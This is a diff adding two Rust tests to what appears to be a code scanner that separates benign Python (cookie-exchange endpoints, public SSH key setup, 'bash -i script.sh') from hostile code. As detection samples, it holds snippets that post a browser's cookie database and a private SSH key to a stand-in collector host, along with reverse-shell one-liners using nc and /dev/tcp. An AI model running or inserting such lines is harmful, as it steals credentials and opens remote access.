@@ -2674,3 +2674,71 @@ fn a_callee_from_the_files_own_table_is_not_a_hidden_builtin() {
         assert!(severity_of("js/base.py", &src, "exec-decoded").is_some(), "{src}");
     }
 }
+
+/// A web endpoint named `/cookies` (a sign-in service's exchange URL, as
+/// one string, a sum or an f-string whose first piece is the scheme) and
+/// the public files of an SSH folder (`authorized_keys` in a start-up
+/// script a cloud client sends to its API) are no credential store; a
+/// browser's cookie database read from its profile folder and a private
+/// key still are. Both front-ends. Written for the test.
+#[test]
+fn a_cookie_endpoint_and_public_ssh_files_are_no_credential_store() {
+    let head = "import os, requests\n";
+    let endpoints = [
+        "def renew(domain, form):\n    return requests.post('https://www.' + domain + '/ap/exchange/cookies', data=form)\n",
+        "def renew(domain, form):\n    return requests.post(f'https://www.{domain}/ap/exchange/cookies', data=form)\n",
+        "def renew(form):\n    return requests.post('https://auth.example.org/ap/exchange/cookies', data=form)\n",
+        "def add_key(public_key):\n    script = f'apt-get update\\necho \"{public_key}\" >> /home/ubuntu/.ssh/authorized_keys\\n'\n    \
+         return requests.post('https://api.example.org/v1/startup-scripts', data={'script': script})\n",
+        "def trust(host_line):\n    path = os.path.join(os.path.expanduser('~'), '.ssh', 'known_hosts')\n    \
+         return requests.post('https://api.example.org/v1/hosts', data={'where': path, 'line': host_line})\n",
+    ];
+    let stores = [
+        "def grab(profile):\n    data = open(profile + '/Default/Network/Cookies', 'rb').read()\n    \
+         return requests.post('https://collect.example.org/up', data=data)\n",
+        "def grab():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    \
+         return requests.post('https://collect.example.org/up', data={'k': key})\n",
+    ];
+    for tail in ["", "print 'py2'\n"] {
+        for body in endpoints {
+            let src = format!("{head}{body}{tail}");
+            assert_eq!(severity_of("client/auth.py", &src, "exfiltration"), None, "{src}");
+        }
+        for body in stores {
+            let src = format!("{head}{body}{tail}");
+            assert_eq!(severity_of("client/auth.py", &src, "exfiltration"), Some(Severity::Critical), "{src}");
+        }
+    }
+}
+
+/// `bash -i script.sh` runs a script with the user's `.bashrc` read first
+/// (a cloud tool's job runner, the path often an f-string's placeholder,
+/// errors merged into the log with `2>&1`); an interactive shell whose
+/// streams are wired up right after it is a reverse shell's. Both
+/// front-ends. Written for the test.
+#[test]
+fn an_interactive_shell_running_a_script_is_no_reverse_shell() {
+    let runs = [
+        "f'/bin/bash -i {path}'",
+        "f'/bin/bash -i {path} 2>&1'",
+        "'/bin/bash -i ' + path + ' 2>&1'",
+        "'bash -i /tmp/job.sh'",
+    ];
+    let wired = [
+        "'bash -i 2>&1 | nc 203.0.113.5 4444'",
+        "'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'",
+        "'0<&196; bash -i <&196 >&196 2>&196'",
+    ];
+    for tail in ["", "print 'py2'\n"] {
+        for cmd in runs {
+            let src =
+                format!("import subprocess\ndef run(path):\n    return subprocess.Popen({cmd}, shell=True)\n{tail}");
+            assert_eq!(severity_of("tool/jobs.py", &src, "process-hostile"), None, "{src}");
+        }
+        for cmd in wired {
+            let src =
+                format!("import subprocess\ndef run(path):\n    return subprocess.Popen({cmd}, shell=True)\n{tail}");
+            assert!(severity_of("tool/jobs.py", &src, "process-hostile").is_some(), "{src}");
+        }
+    }
+}
